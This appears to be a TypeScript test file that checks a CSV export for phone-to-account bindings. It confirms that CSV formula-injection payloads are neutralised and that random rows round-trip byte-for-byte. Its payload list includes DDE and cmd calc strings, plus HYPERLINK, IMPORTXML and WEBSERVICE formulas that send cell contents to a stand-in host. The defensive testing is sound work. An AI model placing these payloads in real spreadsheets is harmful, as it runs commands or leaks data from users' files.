/**
 * CSV: a list of formulas, each neutralised and named beforehand; 10,000 random bindings written, read by our own import and
 * written again: the same bytes. A batch's file and its crash points: test/station/export.test.ts.
 */
import { randomInt } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { readCsv } from '../../main/station/accounts/decode.ts';
import {
  billingPreset,
  bindingsCsv,
  type ExportPreset,
  type ExportRow,
  warningsOf,
} from '../../main/station/export/bindings-csv.ts';
import { randomFrom } from '../../test/fuzz/kit.ts';
import { figure, note } from './figures.ts';
import { shownByTests } from './tests.ts';

const BINDINGS = 10_000;
const seed = Number(process.env.SPA_BENCH_FUZZ_SEED ?? randomInt(2 ** 31));
note(`seed ${seed}`);
const random = randomFrom(seed);
const pick = <T>(from: readonly T[]): T => from[random(from.length)] as T;

const plain: ExportRow = {
  ...{ account: '00123', mac: '000e08aabbcc', serial: '88012BA01234', model: 'SPA942' },
  ...{ firmware: '6.1.5(a)', state: 'VERIFIED', boundAt: Date.UTC(2026, 10, 22), batch: 7 },
};

/** What such cells begin with (OWASP, CSV injection), in full width too, and what follows. */
const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const bodies = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.example/?"&A1,"see")',
  'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  'WEBSERVICE("http://x.example/")',
  '"&A1&"',
  '',
];
const payloads = starts.flatMap((start) => bodies.map((body) => start + body));
const presets: Partial<ExportPreset>[] = [
  {},
  { separator: ';', quoting: 'all' },
  { separator: '\t', lineEnd: '\n' },
  { separator: '|', bom: true },
];
let neutral = 0;
let marked = 0;
for (const payload of payloads) {
  for (const field of ['account', 'serial', 'model', 'firmware'] as const) {
    const preset = { ...billingPreset, ...pick(presets) };
    const row = { ...plain, [field]: payload };
    const { bytes, guarded } = bindingsCsv([row], preset);
    const { separator: delimiter, lineEnd, bom } = preset;
    const read = { delimiter, record_delimiter: lineEnd, bom, columns: true };
    const [cells] = parse(Buffer.from(bytes), read) as unknown as Record<string, string>[];
    if (cells?.[field] === `'${payload}` && guarded === 1) neutral += 1;
    else note(`not neutral: ${JSON.stringify(payload)} in ${field}: ${cells?.[field]}`);
    if (warningsOf(row, preset, 2).some(({ kind }) => kind === 'formula')) marked += 1;
  }
}
const cells = payloads.length * 4;
figure(
  22,
  '100 % of the payload list neutralised and marked',
  `${payloads.length} payloads in four columns: ${neutral} of ${cells} neutralised, ${marked} marked`,
  neutral === cells && marked === cells,
);

const pieces = [
  ...[
    '"',
    '""',
    "'",
    ',',
    ';',
    '\t',
    '|',
    '\r\n',
    '\n',
    '\r',
    ' ',
    '  ',
    '0',
    '00',
    '007',
    '\ufeff',
  ],
  ...[
    'é',
    'ß',
    '日本',
    '☎',
    '𝄞',
    'العربية',
    '\u200b',
    '\u00a0',
    '\u2028',
    '=',
    '+',
    '-',
    '@',
    'a',
    'Z',
    '9',
  ],
];
const text = (): string => Array.from({ length: random(9) }, () => pick(pieces)).join('');
const rows = Array.from(
  { length: BINDINGS },
  (_, n): ExportRow => ({
    ...plain,
    // A row of one empty cell would be a blank line; an account's number is never empty.
    account: `${text()}${n}${text()}`,
    mac: `000e08${n.toString(16).padStart(6, '0')}`,
    serial: random(5) === 0 ? null : text(),
    model: random(5) === 0 ? null : text(),
    firmware: random(5) === 0 ? null : text(),
    batch: random(100_000),
  }),
);
let [same, right] = [0, 0];
for (const change of presets) {
  const preset = { ...billingPreset, ...change, guardFormulas: false };
  const { bytes } = bindingsCsv(rows, preset);
  const read = await readCsv(bytes, { separator: preset.separator });
  const back = read.rows.map(({ cells: c }, n): ExportRow => {
    const orNull = (now: string | undefined, was: string | null | undefined) =>
      now === '' && was === null ? null : (now ?? '');
    return {
      ...plain,
      ...{ account: c[0] ?? '', mac: c[1] ?? '' },
      serial: orNull(c[2], rows[n]?.serial),
      model: orNull(c[3], rows[n]?.model),
      firmware: orNull(c[4], rows[n]?.firmware),
      batch: Number(c[7]),
    };
  });
  right += back.filter((row, n) => JSON.stringify(row) === JSON.stringify(rows[n])).length;
  const wrong = back.find((row, n) => JSON.stringify(row) !== JSON.stringify(rows[n]));
  if (wrong) note(`${JSON.stringify(wrong)} was ${JSON.stringify(rows[back.indexOf(wrong)])}`);
  if (Buffer.from(bindingsCsv(back, preset).bytes).equals(bytes)) same += 1;
}
figure(
  22,
  'import of the export gives the same bytes for 10,000 random bindings',
  `${right} of ${presets.length * BINDINGS} rows right in ${presets.length} forms; ${same} of ${presets.length} files the same bytes`,
  right === presets.length * BINDINGS && same === presets.length,
);
shownByTests(22, 'temporary name, synced, renamed; export twice gives the same rows once', [
  ['integration', 'test/station/export.test.ts', ''],
]);
